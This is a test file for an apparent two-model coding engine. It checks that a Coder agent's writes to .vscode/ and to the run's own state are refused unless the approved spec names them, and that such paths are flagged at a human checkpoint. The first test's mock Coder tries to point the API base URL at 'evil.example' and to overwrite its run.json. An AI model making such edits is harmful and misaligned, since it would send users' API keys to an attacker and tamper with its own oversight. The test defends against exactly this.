// The engine hands the toolbox the spec's Files to Modify and the artifacts root: a Coder that
// writes .vscode/ or the run's own state without the spec naming it is refused and the report
// says so, and a spec that names such a path is flagged while the HARD STOP waits.
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { parseCodeReport } from '../../../src/core/artifacts/codeReport.js';
import { createEngine, demoExcept, demoClient, demoRoles, scratchWorkspaces, waitForPhase } from '../support/engineHarness.js';

const { workspace, cleanup } = scratchWorkspaces();
after(cleanup);

const settingsEntry = '### [NEW] `.vscode/settings.json`\n\n**Purpose:** Editor settings for the project.\n**Contents:**\n\n- format on save\n\n';

describe('protected paths through the engine', () => {
  it('a Coder writing .vscode/ and the run state unasked is refused, its good write lands, and the report says what was refused', async () => {
    const root = await workspace();
    let runId = '';
    const coder = demoExcept(demoRoles.coder, 'implement', async function* (request) {
      if (request.messages.some((message) => message.role === 'assistant')) {
        yield { type: 'tool-call', id: '9', name: 'submit_report', input: { summary: 'Done.', blockers: [], deviations: [] } };
        yield { type: 'done', stopReason: 'tool-use' };
        return;
      }
      yield { type: 'tool-call', id: '1', name: 'write_file', input: { path: '.vscode/settings.json', content: '{"dualModel.anthropic.baseUrl":"https://evil.example"}' } };
      yield { type: 'tool-call', id: '2', name: 'write_file', input: { path: 'src/slugify.js', content: 'module.exports = (text) => text;\n' } };
      yield { type: 'tool-call', id: '3', name: 'write_file', input: { path: `.dual-model/brain/${runId}/run.json`, content: '{}' } };
      yield { type: 'done', stopReason: 'tool-use' };
    });
    const { engine, store } = createEngine({ workspaceRoot: root, clientFor: (role) => (role.modelId === demoRoles.coder.modelId ? coder : demoClient(role)) });
    const run = await engine.start({ request: 'Add a slugify helper', roles: demoRoles });
    runId = run.runId;
    await waitForPhase(engine, run.runId, 'hard-stop-to-coder');
    assert.equal((await engine.snapshot(run.runId))?.view.hardStop?.protectedPaths, undefined, 'the demo spec names no protected path');
    await engine.confirmModel(run.runId);
    await waitForPhase(engine, run.runId, 'hard-stop-to-architect');
    await engine.dispose();

    await assert.rejects(fs.access(path.join(root, '.vscode', 'settings.json')));
    assert.equal(await fs.readFile(path.join(root, 'src', 'slugify.js'), 'utf8'), 'module.exports = (text) => text;\n');
    assert.notEqual(await fs.readFile(store.artifactPath(run.runId, 'run.json'), 'utf8'), '{}', 'the run state is untouched');
    const report = parseCodeReport(await fs.readFile(store.artifactPath(run.runId, 'code_report.md'), 'utf8'));
    assert.ok(report.ok);
    const deviations = report.value.deviations.join('\n');
    assert.match(deviations, /Refused: change \.vscode\/settings\.json: files under \.vscode\/ can change what runs on your machine or where your API keys are sent/);
    assert.match(deviations, /Refused: change \.dual-model\/brain\/.*\/run\.json: \.dual-model\/ is the run's own state/);
  });

  it('lists the protected paths a pending spec names, and the Coder may then write exactly those', async () => {
    const root = await workspace();
    const coder = demoExcept(demoRoles.coder, 'implement', async function* (request) {
      if (request.messages.some((message) => message.role === 'assistant')) {
        yield { type: 'tool-call', id: '9', name: 'submit_report', input: { summary: 'Done.', blockers: [], deviations: [] } };
        yield { type: 'done', stopReason: 'tool-use' };
        return;
      }
      yield { type: 'tool-call', id: '1', name: 'write_file', input: { path: '.vscode/settings.json', content: '{"editor.formatOnSave":true}\n' } };
      yield { type: 'tool-call', id: '2', name: 'write_file', input: { path: '.vscode/tasks.json', content: '{}' } };
      yield { type: 'done', stopReason: 'tool-use' };
    });
    const { engine, store } = createEngine({ workspaceRoot: root, clientFor: (role) => (role.modelId === demoRoles.coder.modelId ? coder : demoClient(role)) });
    const run = await engine.start({ request: 'Add a slugify helper', roles: demoRoles });
    await waitForPhase(engine, run.runId, 'hard-stop-to-coder');
    const file = store.artifactPath(run.runId, 'code_spec.md');
    const spec = await fs.readFile(file, 'utf8');
    await fs.writeFile(file, spec.replace('### [MODIFY] `src/index.js`', `${settingsEntry}### [MODIFY] \`src/index.js\``));
    // The hand edit is shown before it can be approved: the first confirm is refused, the next
    // one approves the spec that names .vscode/settings.json.
    await assert.rejects(engine.confirmModel(run.runId), /changed since it was shown/);
    assert.deepEqual((await engine.snapshot(run.runId))?.view.hardStop?.protectedPaths, ['.vscode/settings.json']);
    await engine.confirmModel(run.runId);
    await waitForPhase(engine, run.runId, 'hard-stop-to-architect');
    await engine.dispose();
    assert.equal(await fs.readFile(path.join(root, '.vscode', 'settings.json'), 'utf8'), '{"editor.formatOnSave":true}\n');
    await assert.rejects(fs.access(path.join(root, '.vscode', 'tasks.json')));

    // What the HARD STOP card shows comes from the saved version of the pending spec.
    const second = createEngine({ workspaceRoot: root });
    const waiting = await second.engine.start({ request: 'Add a slugify helper', roles: demoRoles });
    await waitForPhase(second.engine, waiting.runId, 'hard-stop-to-coder');
    const pendingFile = second.store.artifactPath(waiting.runId, 'versions/v1/code_spec.md');
    const pending = await fs.readFile(pendingFile, 'utf8');
    await fs.writeFile(pendingFile, pending.replace('### [MODIFY] `src/index.js`', `${settingsEntry}### [DELETE] \`src/.git/hooks/pre-commit\`\n\n**Reason:** a stale hook.\n\n### [MODIFY] \`src/index.js\``));
    assert.deepEqual((await second.engine.snapshot(waiting.runId))?.view.hardStop?.protectedPaths, ['.vscode/settings.json', 'src/.git/hooks/pre-commit']);
    await second.engine.dispose();
  });
});
